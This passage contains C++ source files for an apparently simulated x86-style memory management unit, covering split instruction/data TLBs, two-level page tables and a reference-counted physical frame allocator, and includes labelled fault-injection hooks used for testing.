      dtlb_(tlb_entries, tlb_ways) {}

void Mmu::set_cr3(u32 root_pfn) {
  cr3_ = root_pfn;
  flush_tlbs();
}

void Mmu::flush_tlbs() {
  if (fault_hooks_ != nullptr && fault_hooks_->drop_tlb_flush())
      [[unlikely]] {
    // Injected lost flush: the stale entries (and the memos snapshotting
    // them) survive, exactly as if the CR3 reload's flush never happened.
    return;
  }
  drop_fetch_memo();
  drop_data_memos();
  itlb_.flush();
  dtlb_.flush();
  ++stats_->tlb_flushes;
  SM_TRACE(trace_, record(trace::EventKind::kTlbFlush, 0, 0, trace::kSideBoth));
}

void Mmu::invlpg(u32 vaddr) {
  if (fault_hooks_ != nullptr && fault_hooks_->drop_invlpg(vaddr))
      [[unlikely]] {
    return;  // injected lost invlpg: the stale entry survives
  }
  drop_fetch_memo();
  drop_data_memos();
  itlb_.invalidate(vpn_of(vaddr));
  dtlb_.invalidate(vpn_of(vaddr));
  SM_TRACE(trace_, record(trace::EventKind::kTlbInvlpg, vaddr));
}

void Mmu::fault(u32 vaddr, Access acc, bool present, bool soft_miss) {
  PageFaultInfo info;
  info.addr = vaddr;
  info.present = present;
  info.write = acc == Access::kWrite;
  info.user = true;
  info.fetch = acc == Access::kFetch;
  info.soft_miss = soft_miss;
  throw TrapException(Trap::page_fault(info));
}

u64 Mmu::translate(u32 vaddr, Access acc) {
  const bool is_fetch = acc == Access::kFetch;
  Tlb& tlb = is_fetch ? itlb_ : dtlb_;
  const u32 vpn = vpn_of(vaddr);

  if (is_fetch && fetch_memo_.valid && fetch_memo_.vpn == vpn &&
      fetch_memo_.tlb_version == itlb_.version()) {
    // Memo hit: the I-TLB entry this memo snapshot came from is provably
    // unchanged (version match), so serve the translation without the set
    // scan — with identical billing, the same LRU touch lookup() would
    // have applied, and the same permission outcome.
    ++stats_->itlb_hits;
    ++stats_->fetch_fastpath_hits;
    stats_->cycles += cost_->tlb_hit;
    itlb_.touch(fetch_memo_.entry_index);
    if (!fetch_memo_.user) fault(vaddr, acc, /*present=*/true);
    if (fetch_memo_.no_exec) fault(vaddr, acc, /*present=*/true);
    return finish(vaddr, fetch_memo_.pfn);
  }

  if (!is_fetch && data_memo_enabled_) {
    // Data-side mirror of the fetch memo: one entry per access kind. A hit
    // is billed and LRU-stamped exactly like the set scan it replaces, and
    // the permission checks repeat the slow path's (the memo is only armed
    // after they passed, so they re-pass by construction).
    const DataMemo& m = acc == Access::kWrite ? write_memo_ : read_memo_;
    if (m.valid && m.vpn == vpn && m.tlb_version == dtlb_.version()) {
      ++stats_->dtlb_hits;
      ++stats_->data_fastpath_hits;
      stats_->cycles += cost_->tlb_hit;
      if (!inject_memo_lru_bug_) dtlb_.touch(m.entry_index);
      if (!m.user) fault(vaddr, acc, /*present=*/true);
      if (acc == Access::kWrite && !m.writable) fault(vaddr, acc, true);
      return finish(vaddr, m.pfn);
    }
  }

  if (const TlbEntry* e = tlb.lookup(vpn)) {
    // Hit: permissions come from the cached attributes, NOT the PTE. This
    // is the persistence property split memory depends on.
    if (is_fetch) {
      ++stats_->itlb_hits;
    } else {
      ++stats_->dtlb_hits;
    }
    stats_->cycles += cost_->tlb_hit;
    if (!e->user) fault(vaddr, acc, /*present=*/true);
    if (acc == Access::kWrite && !e->writable) fault(vaddr, acc, true);
    if (is_fetch && e->no_exec) fault(vaddr, acc, true);
    if (is_fetch) {
      // Memoize for the next fetch (only after every check passed).
      fetch_memo_.vpn = vpn;
      fetch_memo_.pfn = e->pfn;
      fetch_memo_.entry_index = itlb_.index_of(e);
      fetch_memo_.tlb_version = itlb_.version();
      fetch_memo_.user = e->user;
      fetch_memo_.no_exec = e->no_exec;
      fetch_memo_.valid = true;
    } else if (data_memo_enabled_) {
      // Memoize for the next same-kind data access (after checks passed,
      // so a write memo implies the writable bit was verified).
      DataMemo& m = acc == Access::kWrite ? write_memo_ : read_memo_;
      m.vpn = vpn;
      m.pfn = e->pfn;
      m.entry_index = dtlb_.index_of(e);
      m.tlb_version = dtlb_.version();
      m.user = e->user;
      m.writable = e->writable;
      m.valid = true;
    }
    return finish(vaddr, e->pfn);
  }

  // Miss.
  if (is_fetch) {
    ++stats_->itlb_misses;
  } else {
    ++stats_->dtlb_misses;
  }
  if (software_tlb_) {
    // SPARC-style: no hardware walker — trap to the OS TLB-fill handler.
    fault(vaddr, acc, /*present=*/false, /*soft_miss=*/true);
  }
  stats_->cycles += cost_->tlb_walk;
  SM_TRACE(trace_, charge(trace::Category::kTlbWalk, cost_->tlb_walk, vaddr));
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) fault(vaddr, acc, /*present=*/false);
  if (!pte->user()) fault(vaddr, acc, /*present=*/true);
  if (acc == Access::kWrite && !pte->writable()) fault(vaddr, acc, true);
  if (is_fetch && pte->no_exec()) fault(vaddr, acc, true);

  // Fill the requesting TLB only; set accessed/dirty like hardware.
  Pte updated = *pte;
  updated.set(Pte::kAccessed);
  if (acc == Access::kWrite) updated.set(Pte::kDirty);
  if (updated.raw != pte->raw) pt.set(vaddr, updated);

  TlbEntry entry;
  entry.vpn = vpn;
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  const auto evicted = tlb.insert(entry);
  [[maybe_unused]] const u8 side =
      is_fetch ? trace::kSideItlb : trace::kSideDtlb;
  if (evicted) {
    SM_TRACE(trace_, record(trace::EventKind::kTlbEvict, evicted->vpn << 12,
                            evicted->pfn, side));
  }
  SM_TRACE(trace_,
           record(trace::EventKind::kTlbFill, vaddr, pte->pfn(), side));
  return finish(vaddr, pte->pfn());
}

u32 Mmu::read32(u32 va) {
  // Contained in one page (the common case): a single translation covers
  // all four bytes.
  if (page_offset(va) <= kPageSize - 4) {
    return pm_->read32(translate(va, Access::kRead));
  }
  // Page-straddling access: one translation per page — as the hardware
  // would do — rather than one per byte.
  const u32 first_len = kPageSize - page_offset(va);
  const u64 pa0 = translate(va, Access::kRead);
  const u64 pa1 = translate(va + first_len, Access::kRead);
  u32 v = 0;
  for (u32 i = 0; i < 4; ++i) {
    const u64 pa = i < first_len ? pa0 + i : pa1 + (i - first_len);
    v |= static_cast<u32>(pm_->read8(pa)) << (8 * i);
  }
  return v;
}

void Mmu::write32(u32 va, u32 v) {
  if (page_offset(va) <= kPageSize - 4) {
    pm_->write32(translate(va, Access::kWrite), v);
    return;
  }
  // Pre-translate both pages so a fault leaves memory untouched.
  const u32 first_len = kPageSize - page_offset(va);
  const u64 pa0 = translate(va, Access::kWrite);
  const u64 pa1 = translate(va + first_len, Access::kWrite);
  for (u32 i = 0; i < 4; ++i) {
    const u64 pa = i < first_len ? pa0 + i : pa1 + (i - first_len);
    pm_->write8(pa, static_cast<u8>(v >> (8 * i)));
  }
}

bool Mmu::fill_dtlb_via_walk(u32 vaddr) {
  stats_->cycles += cost_->kernel_touch;
  SM_TRACE(trace_,
           charge(trace::Category::kKernelTouch, cost_->kernel_touch, vaddr));
  if (walk_failure_period_ != 0 &&
      ++walk_fill_count_ % walk_failure_period_ == 0) {
    return false;  // injected footnote-1 quirk
  }
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) return false;
  TlbEntry entry;
  entry.vpn = vpn_of(vaddr);
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  const auto evicted = dtlb_.insert(entry);
  if (evicted) {
    SM_TRACE(trace_, record(trace::EventKind::kTlbEvict, evicted->vpn << 12,
                            evicted->pfn, trace::kSideDtlb));
  }
  SM_TRACE(trace_, record(trace::EventKind::kTlbFill, vaddr, pte->pfn(),
                          trace::kSideDtlb));
  return true;
}

bool Mmu::fill_itlb_via_call(u32 vaddr) {
  // The abandoned §4.2.4 method: the handler calls a ret placed on the
  // page, which fetches through the I-TLB. Writing to the code page costs
  // an instruction-cache coherency flush — "this actually decreased the
  // system's efficiency".
  stats_->cycles += cost_->icache_sync;
  SM_TRACE(trace_,
           charge(trace::Category::kIcacheSync, cost_->icache_sync, vaddr));
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) return false;
  TlbEntry entry;
  entry.vpn = vpn_of(vaddr);
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  const auto evicted = itlb_.insert(entry);
  if (evicted) {
    SM_TRACE(trace_, record(trace::EventKind::kTlbEvict, evicted->vpn << 12,
                            evicted->pfn, trace::kSideItlb));
  }
  SM_TRACE(trace_, record(trace::EventKind::kTlbFill, vaddr, pte->pfn(),
                          trace::kSideItlb));
  return true;
}

void Mmu::insert_tlb_entry(bool instruction, u32 vpn, u32 pfn, bool user,
                           bool writable, bool no_exec) {
  drop_fetch_memo();
  drop_data_memos();
  TlbEntry entry;
  entry.vpn = vpn;
  entry.pfn = pfn;
  entry.user = user;
  entry.writable = writable;
  entry.no_exec = no_exec;
  const auto evicted = (instruction ? itlb_ : dtlb_).insert(entry);
  [[maybe_unused]] const u8 side =
      instruction ? trace::kSideItlb : trace::kSideDtlb;
  if (evicted) {
    SM_TRACE(trace_, record(trace::EventKind::kTlbEvict, evicted->vpn << 12,
                            evicted->pfn, side));
  }
  SM_TRACE(trace_, record(trace::EventKind::kTlbFill, vpn << 12, pfn, side));
}

}  // namespace sm::arch
