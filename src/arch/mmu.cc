#include "arch/mmu.h"

namespace sm::arch {

Mmu::Mmu(PhysicalMemory& pm, metrics::Stats& stats,
         const metrics::CostModel& cost, u32 tlb_entries, u32 tlb_ways)
    : pm_(&pm),
      stats_(&stats),
      cost_(&cost),
      itlb_(tlb_entries, tlb_ways),
      dtlb_(tlb_entries, tlb_ways) {}

void Mmu::set_cr3(u32 root_pfn) {
  cr3_ = root_pfn;
  flush_tlbs();
}

void Mmu::flush_tlbs() {
  itlb_.flush();
  dtlb_.flush();
  ++stats_->tlb_flushes;
}

void Mmu::invlpg(u32 vaddr) {
  itlb_.invalidate(vpn_of(vaddr));
  dtlb_.invalidate(vpn_of(vaddr));
}

void Mmu::fault(u32 vaddr, Access acc, bool present, bool soft_miss) {
  PageFaultInfo info;
  info.addr = vaddr;
  info.present = present;
  info.write = acc == Access::kWrite;
  info.user = true;
  info.fetch = acc == Access::kFetch;
  info.soft_miss = soft_miss;
  throw TrapException(Trap::page_fault(info));
}

u64 Mmu::translate(u32 vaddr, Access acc) {
  const bool is_fetch = acc == Access::kFetch;
  Tlb& tlb = is_fetch ? itlb_ : dtlb_;
  const u32 vpn = vpn_of(vaddr);

  if (const TlbEntry* e = tlb.lookup(vpn)) {
    // Hit: permissions come from the cached attributes, NOT the PTE. This
    // is the persistence property split memory depends on.
    if (is_fetch) {
      ++stats_->itlb_hits;
    } else {
      ++stats_->dtlb_hits;
    }
    stats_->cycles += cost_->tlb_hit;
    if (!e->user) fault(vaddr, acc, /*present=*/true);
    if (acc == Access::kWrite && !e->writable) fault(vaddr, acc, true);
    if (is_fetch && e->no_exec) fault(vaddr, acc, true);
    return finish(vaddr, e->pfn);
  }

  // Miss.
  if (is_fetch) {
    ++stats_->itlb_misses;
  } else {
    ++stats_->dtlb_misses;
  }
  if (software_tlb_) {
    // SPARC-style: no hardware walker — trap to the OS TLB-fill handler.
    fault(vaddr, acc, /*present=*/false, /*soft_miss=*/true);
  }
  stats_->cycles += cost_->tlb_walk;
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) fault(vaddr, acc, /*present=*/false);
  if (!pte->user()) fault(vaddr, acc, /*present=*/true);
  if (acc == Access::kWrite && !pte->writable()) fault(vaddr, acc, true);
  if (is_fetch && pte->no_exec()) fault(vaddr, acc, true);

  // Fill the requesting TLB only; set accessed/dirty like hardware.
  Pte updated = *pte;
  updated.set(Pte::kAccessed);
  if (acc == Access::kWrite) updated.set(Pte::kDirty);
  if (updated.raw != pte->raw) pt.set(vaddr, updated);

  TlbEntry entry;
  entry.vpn = vpn;
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  tlb.insert(entry);
  return finish(vaddr, pte->pfn());
}

u32 Mmu::read32(u32 va) {
  // A 32-bit access may straddle a page boundary; translate per byte then.
  if (page_offset(va) <= kPageSize - 4) {
    return pm_->read32(translate(va, Access::kRead));
  }
  u32 v = 0;
  for (u32 i = 0; i < 4; ++i) {
    v |= static_cast<u32>(pm_->read8(translate(va + i, Access::kRead)))
         << (8 * i);
  }
  return v;
}

void Mmu::write32(u32 va, u32 v) {
  if (page_offset(va) <= kPageSize - 4) {
    pm_->write32(translate(va, Access::kWrite), v);
    return;
  }
  // Pre-translate every byte so a fault leaves memory untouched.
  u64 pa[4];
  for (u32 i = 0; i < 4; ++i) pa[i] = translate(va + i, Access::kWrite);
  for (u32 i = 0; i < 4; ++i) {
    pm_->write8(pa[i], static_cast<u8>(v >> (8 * i)));
  }
}

bool Mmu::fill_dtlb_via_walk(u32 vaddr) {
  stats_->cycles += cost_->kernel_touch;
  if (walk_failure_period_ != 0 &&
      ++walk_fill_count_ % walk_failure_period_ == 0) {
    return false;  // injected footnote-1 quirk
  }
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) return false;
  TlbEntry entry;
  entry.vpn = vpn_of(vaddr);
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  dtlb_.insert(entry);
  return true;
}

bool Mmu::fill_itlb_via_call(u32 vaddr) {
  // The abandoned §4.2.4 method: the handler calls a ret placed on the
  // page, which fetches through the I-TLB. Writing to the code page costs
  // an instruction-cache coherency flush — "this actually decreased the
  // system's efficiency".
  stats_->cycles += cost_->icache_sync;
  PageTable pt(*pm_, cr3_);
  const auto pte = pt.walk(vaddr, stats_);
  if (!pte) return false;
  TlbEntry entry;
  entry.vpn = vpn_of(vaddr);
  entry.pfn = pte->pfn();
  entry.user = pte->user();
  entry.writable = pte->writable();
  entry.no_exec = pte->no_exec();
  itlb_.insert(entry);
  return true;
}

void Mmu::insert_tlb_entry(bool instruction, u32 vpn, u32 pfn, bool user,
                           bool writable, bool no_exec) {
  TlbEntry entry;
  entry.vpn = vpn;
  entry.pfn = pfn;
  entry.user = user;
  entry.writable = writable;
  entry.no_exec = no_exec;
  (instruction ? itlb_ : dtlb_).insert(entry);
}

}  // namespace sm::arch
