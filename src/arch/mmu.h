// Memory management unit: CR3, the split I-TLB/D-TLB pair, and the
// translation algorithm (TLB lookup → hardware page-table walk → fill).
//
// User-mode translations are permission checked against the *cached* TLB
// attributes on a hit and against the PTE on a miss, exactly as x86 does.
// A permission failure or a missing mapping raises a page fault
// (TrapException) carrying the CR2 address and the error-code bits.
//
// Kernel code accesses guest memory through the page-table view directly
// (see kernel/guest_mem.h) and never perturbs the TLBs — except through
// fill_dtlb_via_walk(), which models the paper's "touch a byte while the
// PTE is unrestricted" D-TLB load (Algorithm 1, lines 7-11).
//
// Fetch fast path: a one-entry (VPN → PFN, perms) memo of the last
// instruction-fetch translation is consulted before the I-TLB set scan.
// It is a pure host-time shortcut — it only serves translations the I-TLB
// would have served itself (same hit billing, same LRU touch, same
// permission checks) and is dropped on invlpg, flush_tlbs, set_cr3 and
// insert_tlb_entry, plus implicitly on ANY I-TLB mutation via the TLB's
// version counter (so an LRU eviction by an unrelated fill kills it too).
//
// Data fast path: the same memo, mirrored for Access::kRead and
// Access::kWrite as two separate entries keyed to the D-TLB's version
// counter. Cpu::push/pop and Load/Store/Loadb/Storeb otherwise pay a full
// D-TLB set scan per access; a memo hit bills one D-TLB hit and re-stamps
// the entry's LRU clock exactly like the scan it replaced. The write memo
// is armed only by a write that passed the writable check, so the read
// memo can never launder a store past a read-only entry. Toggleable via
// set_data_memo_enabled() for the billing-identity tests.
#pragma once

#include "arch/fault_hooks.h"
#include "arch/page_table.h"
#include "arch/phys_mem.h"
#include "arch/tlb.h"
#include "arch/trap.h"
#include "arch/types.h"
#include "metrics/cost_model.h"
#include "metrics/stats.h"
#include "trace/trace.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::arch {

enum class Access { kFetch, kRead, kWrite };

class Mmu {
 public:
  Mmu(PhysicalMemory& pm, metrics::Stats& stats,
      const metrics::CostModel& cost, u32 tlb_entries = 64, u32 tlb_ways = 4);

  PhysicalMemory& phys() { return *pm_; }

  // Loads CR3; flushes BOTH TLBs (the context-switch cost the paper
  // identifies as its dominant overhead).
  void set_cr3(u32 root_pfn);
  u32 cr3() const { return cr3_; }
  PageTable pagetable() { return PageTable(*pm_, cr3_); }

  // Translates a user-mode access, billing TLB/walk costs, or throws
  // TrapException(page fault).
  u64 translate(u32 vaddr, Access acc);

  // --- user-mode accessors used by the CPU ------------------------------
  u8 read8(u32 va) { return pm_->read8(translate(va, Access::kRead)); }
  u32 read32(u32 va);
  void write8(u32 va, u8 v) { pm_->write8(translate(va, Access::kWrite), v); }
  void write32(u32 va, u32 v);
  u8 fetch8(u32 va) { return pm_->read8(translate(va, Access::kFetch)); }

  // --- kernel-side TLB management ---------------------------------------
  // The split-memory D-TLB load: performs a hardware walk of the CURRENT
  // page tables for vaddr and installs the result in the data-TLB,
  // emulating the kernel reading one byte off the page. Returns false if
  // the walk found no present mapping — or when walk-failure injection is
  // armed (the paper's footnote-1 Pentium-III quirk: "occasionally, the
  // pagetable walk does not successfully load the data-TLB").
  bool fill_dtlb_via_walk(u32 vaddr);

  // The alternative I-TLB load the paper's §4.2.4 side note describes
  // (adding a ret to the page and calling it from the fault handler):
  // fills the I-TLB directly from the current PTE and pays the instruction
  // cache coherency penalty that made the authors abandon it.
  bool fill_itlb_via_call(u32 vaddr);

  // Every `period`-th fill_dtlb_via_walk call fails (0 = never). Used to
  // test the single-step fallback path.
  void set_walk_failure_period(u32 period) { walk_failure_period_ = period; }

  // --- software-managed TLBs (SPARC-style, paper §4.7) -------------------
  // When enabled, a TLB miss does NOT walk the page tables in hardware;
  // it raises a page fault with soft_miss set and the OS loads the TLB
  // itself via insert_tlb_entry(). "On an architecture with
  // software-loaded TLBs there would be no need for complex data or
  // instruction TLB loading techniques."
  void set_software_tlb(bool on) { software_tlb_ = on; }
  bool software_tlb() const { return software_tlb_; }
  // Direct TLB insertion for the software-TLB fill handler.
  void insert_tlb_entry(bool instruction, u32 vpn, u32 pfn, bool user,
                        bool writable, bool no_exec);

  void invlpg(u32 vaddr);  // drops vaddr's VPN from both TLBs
  void flush_tlbs();

  // Host-side data-translation memo (see file comment). Default on; the
  // off switch exists so tests can prove billing identity.
  void set_data_memo_enabled(bool on) {
    data_memo_enabled_ = on;
    if (!on) drop_data_memos();
  }
  bool data_memo_enabled() const { return data_memo_enabled_; }

  // Fault injection for the differential-fuzz oracle's self-test: when
  // armed, a data-memo hit skips the LRU re-stamp the set scan would have
  // applied — exactly the class of "the fast path forgot a side effect"
  // bug the memo's billing-identity contract forbids. The D-TLB's eviction
  // order then silently drifts from the memo-off run, which the oracle
  // must detect as a stats divergence (see tools/fuzz_driver --inject-lru-bug).
  void set_inject_memo_lru_bug(bool on) { inject_memo_lru_bug_ = on; }

  Tlb& itlb() { return itlb_; }
  Tlb& dtlb() { return dtlb_; }

  // Observability (src/trace): null unless the kernel enabled tracing.
  // The sink only ever observes — billing is bit-identical either way.
  void set_trace(trace::TraceSink* sink) { trace_ = sink; }

  // Fault injection (src/inject): null unless a schedule is armed. Only
  // consulted on the cold flush/invlpg paths — never inside translate().
  void set_fault_hooks(FaultHooks* hooks) { fault_hooks_ = hooks; }

 private:
  friend struct sm::snapshot::Access;

  [[noreturn]] void fault(u32 vaddr, Access acc, bool present,
                          bool soft_miss = false);
  u64 finish(u32 vaddr, u32 pfn) const {
    return static_cast<u64>(pfn) * kPageSize + page_offset(vaddr);
  }

  // Last successful instruction-fetch translation (see file comment).
  struct FetchMemo {
    u32 vpn = 0;
    u32 pfn = 0;
    u32 entry_index = 0;  // into the I-TLB, for the LRU touch
    u64 tlb_version = 0;  // must match itlb_.version() to be usable
    bool user = false;
    bool no_exec = false;
    bool valid = false;
  };
  void drop_fetch_memo() { fetch_memo_.valid = false; }

  // Last successful data translation, one entry per access kind (see file
  // comment). Valid only while tlb_version matches dtlb_.version().
  struct DataMemo {
    u32 vpn = 0;
    u32 pfn = 0;
    u32 entry_index = 0;  // into the D-TLB, for the LRU touch
    u64 tlb_version = 0;
    bool user = false;
    bool writable = false;
    bool valid = false;
  };
  void drop_data_memos() {
    read_memo_.valid = false;
    write_memo_.valid = false;
  }

  PhysicalMemory* pm_;
  metrics::Stats* stats_;
  const metrics::CostModel* cost_;
  trace::TraceSink* trace_ = nullptr;
  FaultHooks* fault_hooks_ = nullptr;
  Tlb itlb_;
  Tlb dtlb_;
  FetchMemo fetch_memo_;
  DataMemo read_memo_;
  DataMemo write_memo_;
  bool data_memo_enabled_ = true;
  bool inject_memo_lru_bug_ = false;
  u32 cr3_ = 0;
  u32 walk_failure_period_ = 0;
  u32 walk_fill_count_ = 0;
  bool software_tlb_ = false;
};

}  // namespace sm::arch
