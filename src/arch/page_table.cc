#include "arch/page_table.h"

namespace sm::arch {

namespace {
constexpr u32 kEntriesPerTable = kPageSize / 4;

u32 dir_index(u32 vaddr) { return vaddr >> 22; }
u32 table_index(u32 vaddr) { return (vaddr >> kPageShift) & (kEntriesPerTable - 1); }
}  // namespace

u32 PageTable::create(PhysicalMemory& pm) { return pm.alloc_frame(); }

u64 PageTable::pde_addr(u32 vaddr) const {
  return static_cast<u64>(root_) * kPageSize + dir_index(vaddr) * 4;
}

Pte PageTable::get(u32 vaddr) const {
  const Pte pde{pm_->read32(pde_addr(vaddr))};
  if (!pde.present()) return Pte{};
  const u64 pte_pa =
      static_cast<u64>(pde.pfn()) * kPageSize + table_index(vaddr) * 4;
  return Pte{pm_->read32(pte_pa)};
}

void PageTable::set(u32 vaddr, Pte pte) {
  Pte pde{pm_->read32(pde_addr(vaddr))};
  if (!pde.present()) {
    const u32 table_pfn = pm_->alloc_frame();
    pde = Pte::make(table_pfn, Pte::kPresent | Pte::kWritable | Pte::kUser);
    pm_->write32(pde_addr(vaddr), pde.raw);
  }
  const u64 pte_pa =
      static_cast<u64>(pde.pfn()) * kPageSize + table_index(vaddr) * 4;
  pm_->write32(pte_pa, pte.raw);
}

void PageTable::clear(u32 vaddr) { set(vaddr, Pte{}); }

std::optional<Pte> PageTable::walk(u32 vaddr, metrics::Stats* stats) const {
  if (stats != nullptr) ++stats->hardware_walks;
  const Pte pde{pm_->read32(pde_addr(vaddr))};
  if (!pde.present()) return std::nullopt;
  const u64 pte_pa =
      static_cast<u64>(pde.pfn()) * kPageSize + table_index(vaddr) * 4;
  const Pte pte{pm_->read32(pte_pa)};
  if (!pte.present()) return std::nullopt;
  return pte;
}

void PageTable::for_each_mapping(
    const std::function<void(u32 vaddr, Pte pte)>& fn) const {
  for (u32 di = 0; di < kEntriesPerTable; ++di) {
    const Pte pde{
        pm_->read32(static_cast<u64>(root_) * kPageSize + di * 4)};
    if (!pde.present()) continue;
    for (u32 ti = 0; ti < kEntriesPerTable; ++ti) {
      const Pte pte{pm_->read32(
          static_cast<u64>(pde.pfn()) * kPageSize + ti * 4)};
      if (!pte.present()) continue;
      fn((di << 22) | (ti << kPageShift), pte);
    }
  }
}

void PageTable::destroy() {
  for (u32 di = 0; di < kEntriesPerTable; ++di) {
    const Pte pde{
        pm_->read32(static_cast<u64>(root_) * kPageSize + di * 4)};
    if (pde.present()) pm_->unref_frame(pde.pfn());
  }
  pm_->unref_frame(root_);
}

}  // namespace sm::arch
