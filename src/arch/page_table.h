// Two-level page tables stored in simulated physical memory.
//
// Layout follows IA-32 non-PAE paging: a 4 KiB page directory of 1024
// 32-bit entries, each pointing to a 4 KiB page table of 1024 PTEs.
// Directory entries use the same bit layout as PTEs (present + pfn).
//
// The PageTable object is a *view* over a directory root in PhysicalMemory;
// it owns nothing. AddressSpace (kernel layer) manages lifetimes.
#pragma once

#include <functional>
#include <optional>

#include "arch/phys_mem.h"
#include "arch/pte.h"
#include "arch/types.h"
#include "metrics/stats.h"

namespace sm::arch {

class PageTable {
 public:
  PageTable(PhysicalMemory& pm, u32 root_pfn) : pm_(&pm), root_(root_pfn) {}

  // Allocates an empty page directory and returns its frame.
  static u32 create(PhysicalMemory& pm);

  u32 root() const { return root_; }

  // Reads the PTE covering vaddr; a zero PTE if the mapping level is absent.
  Pte get(u32 vaddr) const;

  // Writes the PTE covering vaddr, allocating the intermediate table on
  // demand. Does not touch any TLB: callers own coherence (invlpg/flush),
  // exactly the property the split-memory technique exploits.
  void set(u32 vaddr, Pte pte);

  // Clears the PTE (unmaps). Does not free the data frame.
  void clear(u32 vaddr);

  // Hardware page-table walk: what the MMU does on a TLB miss. Returns the
  // PTE if both levels are present, and bills two memory accesses.
  std::optional<Pte> walk(u32 vaddr, metrics::Stats* stats) const;

  // Iterates every present PTE (used by fork and teardown).
  void for_each_mapping(
      const std::function<void(u32 vaddr, Pte pte)>& fn) const;

  // Frees the directory and all second-level table frames. Mapped data
  // frames are NOT freed; the owner must walk mappings first.
  void destroy();

 private:
  u64 pde_addr(u32 vaddr) const;

  PhysicalMemory* pm_;
  u32 root_;
};

}  // namespace sm::arch
