#include "arch/phys_mem.h"

#include <algorithm>
#include <cstring>

namespace sm::arch {

PhysicalMemory::PhysicalMemory(u32 num_frames)
    : num_frames_(num_frames),
      bytes_(static_cast<std::size_t>(num_frames) * kPageSize, 0),
      generations_(num_frames, 0),
      refcounts_(num_frames, 0) {
  free_list_.reserve(num_frames);
  // Hand out low frames first: push in reverse so pop_back yields frame 0.
  for (u32 i = 0; i < num_frames; ++i) {
    free_list_.push_back(num_frames - 1 - i);
  }
}

void PhysicalMemory::check_pa(u64 pa, u64 len) const {
  if (pa + len > bytes_.size() || pa + len < pa) {
    throw std::out_of_range("physical address out of range");
  }
}

u8 PhysicalMemory::read8(u64 pa) const {
  check_pa(pa, 1);
  return bytes_[pa];
}

u32 PhysicalMemory::read32(u64 pa) const {
  check_pa(pa, 4);
  u32 v = 0;
  std::memcpy(&v, &bytes_[pa], 4);
  return v;
}

void PhysicalMemory::bump_generation(u64 pa, u64 len) {
  if (len == 0) return;
  const u64 first = pa >> kPageShift;
  const u64 last = (pa + len - 1) >> kPageShift;
  for (u64 f = first; f <= last; ++f) ++generations_[f];
}

void PhysicalMemory::write8(u64 pa, u8 v) {
  check_pa(pa, 1);
  ++generations_[pa >> kPageShift];
  bytes_[pa] = v;
}

void PhysicalMemory::write32(u64 pa, u32 v) {
  check_pa(pa, 4);
  bump_generation(pa, 4);
  std::memcpy(&bytes_[pa], &v, 4);
}

void PhysicalMemory::read(u64 pa, std::span<u8> out) const {
  check_pa(pa, out.size());
  std::memcpy(out.data(), &bytes_[pa], out.size());
}

void PhysicalMemory::write(u64 pa, std::span<const u8> in) {
  check_pa(pa, in.size());
  bump_generation(pa, in.size());
  std::memcpy(&bytes_[pa], in.data(), in.size());
}

std::span<u8> PhysicalMemory::frame_bytes(u32 pfn) {
  check_pa(static_cast<u64>(pfn) * kPageSize, kPageSize);
  ++generations_[pfn];
  return {&bytes_[static_cast<u64>(pfn) * kPageSize], kPageSize};
}

u64 PhysicalMemory::generation(u32 pfn) const {
  if (pfn >= num_frames_) throw std::out_of_range("bad pfn");
  return generations_[pfn];
}

std::span<const u8> PhysicalMemory::frame_bytes(u32 pfn) const {
  check_pa(static_cast<u64>(pfn) * kPageSize, kPageSize);
  return {&bytes_[static_cast<u64>(pfn) * kPageSize], kPageSize};
}

u32 PhysicalMemory::alloc_frame() {
  if (fault_hooks_ != nullptr && fault_hooks_->fail_frame_alloc())
      [[unlikely]] {
    throw OutOfMemoryError{};  // injected transient exhaustion
  }
  if (free_list_.empty()) throw OutOfMemoryError{};
  const u32 pfn = free_list_.back();
  free_list_.pop_back();
  refcounts_[pfn] = 1;
  ++frames_in_use_;
  std::ranges::fill(frame_bytes(pfn), u8{0});
  return pfn;
}

void PhysicalMemory::ref_frame(u32 pfn) {
  if (pfn >= num_frames_ || refcounts_[pfn] == 0) {
    throw std::logic_error("ref of unallocated frame");
  }
  ++refcounts_[pfn];
}

void PhysicalMemory::unref_frame(u32 pfn) {
  if (pfn >= num_frames_ || refcounts_[pfn] == 0) {
    throw std::logic_error("unref of unallocated frame");
  }
  if (--refcounts_[pfn] == 0) {
    free_list_.push_back(pfn);
    --frames_in_use_;
  }
}

u32 PhysicalMemory::refcount(u32 pfn) const {
  if (pfn >= num_frames_) throw std::out_of_range("bad pfn");
  return refcounts_[pfn];
}

}  // namespace sm::arch
