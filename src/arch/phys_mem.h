// Simulated physical memory with a reference-counted frame allocator.
//
// Frames are reference counted because the kernel shares frames across
// address spaces (copy-on-write fork, shared libraries) and because every
// split page owns *two* frames that must both return to the free pool on
// process exit (paper §5.4).
//
// Every frame also carries a generation counter that is bumped by every
// mutation path — write8/write32/span writes, the mutable frame_bytes()
// view (kernel loader, fork/exec copies, split-engine frame duplication),
// and frame reallocation. The CPU's physically-keyed decode cache stores
// the generation it decoded under and treats a mismatch as an
// invalidation, which is what keeps self-modifying code, forensics-mode
// shellcode injection, and observe-mode page unsplitting bit-exact.
#pragma once

#include <cstddef>
#include <span>
#include <stdexcept>
#include <vector>

#include "arch/fault_hooks.h"
#include "arch/types.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::arch {

class OutOfMemoryError : public std::runtime_error {
 public:
  OutOfMemoryError() : std::runtime_error("physical memory exhausted") {}
};

class PhysicalMemory {
 public:
  explicit PhysicalMemory(u32 num_frames);

  u32 num_frames() const { return num_frames_; }

